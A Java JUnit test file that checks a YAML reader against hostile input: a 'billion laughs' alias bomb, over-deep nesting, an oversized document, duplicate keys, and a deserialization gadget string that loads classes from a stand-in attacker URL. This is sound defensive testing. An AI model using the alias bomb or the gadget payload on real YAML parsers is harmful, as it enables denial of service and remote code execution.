package dev.tenet.core.util;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import java.io.IOException;
import org.junit.jupiter.api.Test;

/** Hostile YAML: each attack ends in a parse error (or harmless data), never in exhaustion. */
class YamlTest {
  static final String BILLION_LAUGHS =
      """
      a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
      b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
      c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
      d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
      e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
      f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
      g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
      h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
      i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
      """;

  @Test
  void aliasesAreNeverExpandedExponentially() throws IOException {
    // Jackson does not expand aliases into copies: an alias reads as the anchor's name.
    JsonNode root = Yaml.readTree(BILLION_LAUGHS);
    assertThat(root.path("i").size()).isEqualTo(9);
    assertThat(root.toString().length()).isLessThan(2_000);
  }

  @Test
  void deepNestingIsRefused() {
    String deep = "[".repeat(Yaml.MAX_DEPTH + 50) + "]".repeat(Yaml.MAX_DEPTH + 50);
    assertThatThrownBy(() -> Yaml.readTree(deep))
        .isInstanceOf(IOException.class)
        .hasMessageContaining("nesting depth");
  }

  @Test
  void hugeDocumentsAreRefused() {
    String huge = "k: [" + "1,".repeat(Yaml.MAX_CODE_POINTS / 2 + 10) + "1]\n";
    assertThatThrownBy(() -> Yaml.readTree(huge))
        .isInstanceOf(IOException.class)
        .hasMessage("the YAML document is larger than 4 MiB");
    assertThatThrownBy(() -> Yaml.readTree(new java.io.ByteArrayInputStream(huge.getBytes(UTF_8))))
        .hasMessage("the YAML document is larger than 4 MiB");
  }

  @Test
  void duplicateKeysAreRefused() {
    assertThatThrownBy(() -> Yaml.readTree("on: push\non: pull_request_target\n"))
        .isInstanceOf(IOException.class)
        .hasMessageContaining("Duplicate field 'on'");
  }

  @Test
  void tagsNeverConstructJavaObjects() throws IOException {
    String gadget =
        "x: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL"
            + " [\"http://attacker.invalid/\"]]]]\n";
    JsonNode root = Yaml.readTree(gadget);
    assertThat(root.path("x").isArray()).isTrue();
  }
}
